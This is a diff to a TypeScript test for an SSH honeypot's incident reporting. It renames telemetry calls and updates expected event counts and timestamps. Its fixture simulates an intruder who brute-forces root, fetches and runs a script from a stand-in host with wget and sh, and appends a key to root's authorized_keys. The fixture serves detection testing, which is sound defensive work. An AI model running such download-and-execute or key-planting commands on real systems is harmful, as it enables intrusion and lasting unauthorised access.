@@ -30,21 +30,20 @@ function attack(): SensorEvent[] {
   const kept = { sha256: 'c'.repeat(64), bytes: 12, truncated: false };
   telemetry.connected();
   telemetry.identified('SSH-2.0-libssh_0.9.6');
-  telemetry.client(undefined, undefined);
+  telemetry.agreed(undefined, undefined);
   for (const password of ['a', 'b', 'c', 'd', 'e'])
-    telemetry.login({ user: 'root', method: 'password', password }, false);
-  telemetry.login({ user: 'root', method: 'password', password: 'f' }, true);
-  telemetry.session({ kind: 'shell', environment: {} });
+    telemetry.attempted({ user: 'root', method: 'password', password }, false);
+  telemetry.attempted({ user: 'root', method: 'password', password: 'f' }, true);
+  telemetry.started({ kind: 'shell', environment: {} });
   telemetry.command('uname -a; free -m');
   telemetry.command('wget http://192.0.2.9/bins.sh -O /tmp/.b; sh /tmp/.b');
   telemetry.download('http://192.0.2.9/bins.sh', 'wget', '/tmp/.b');
   telemetry.execute('/tmp/.b', ['sh', '/tmp/.b']);
   telemetry.command('echo ssh-rsa AAAA >> /root/.ssh/authorized_keys');
-  telemetry.file('/root/.ssh/authorized_keys', 12, kept, 'redirect');
-  telemetry.file('/tmp/upload', 12, kept, 'upload');
+  telemetry.upload({ path: '/root/.ssh/authorized_keys', kept, how: 'redirect' });
+  telemetry.upload({ path: '/tmp/upload', kept });
   telemetry.forward('connect', '192.0.2.8', 80);
   telemetry.bounded('time');
-  telemetry.recorded({ bytes: 100, durationMs: 9000 });
   telemetry.disconnected('closed by the client', { bytes: 100, durationMs: 9000 });
   return events;
 }
@@ -93,7 +92,6 @@ describe('an attack on our own SSH decoy', () => {
       'upload',
       'outbound',
       'other',
-      'other',
       'disconnect',
     ]);
   });
@@ -102,12 +100,12 @@ describe('an attack on our own SSH decoy', () => {
     expect(Incident.safeParse(incident).error).toBeUndefined();
     expect(incident).toMatchObject({
       title:
-        'SSH brute force from 198.51.100.7, logged in as root, brought in and ran a file, planted an SSH key, looked around',
+        'SSH break-in by brute force from 198.51.100.7, logged in as root, brought in and ran a file, planted an SSH key, looked around',
       severity: 'critical',
       sourceVerified: true,
-      counts: { logins: 1, failures: 5, commands: 3, events: 20 },
+      counts: { logins: 1, failures: 5, commands: 3, events: 19 },
       firstSeen: START,
-      lastSeen: START + 19_000,
+      lastSeen: START + 18_000,
     });
     expect(incident?.tactics).toEqual(['TA0043', 'TA0006', 'TA0001', 'TA0007', 'TA0011', 'TA0002', 'TA0003']);
     expect(incident?.files.map((one) => [one.direction, one.path])).toEqual([
@@ -121,7 +119,7 @@ describe('an attack on our own SSH decoy', () => {
         decoy: 'ssh-1',
         protocol: 'ssh',
         start: START,
-        end: START + 19_000,
+        end: START + 18_000,
         user: 'root',
         recording: 'ssh-1~m1abcdef~1',
         client: 'SSH-2.0-libssh_0.9.6',
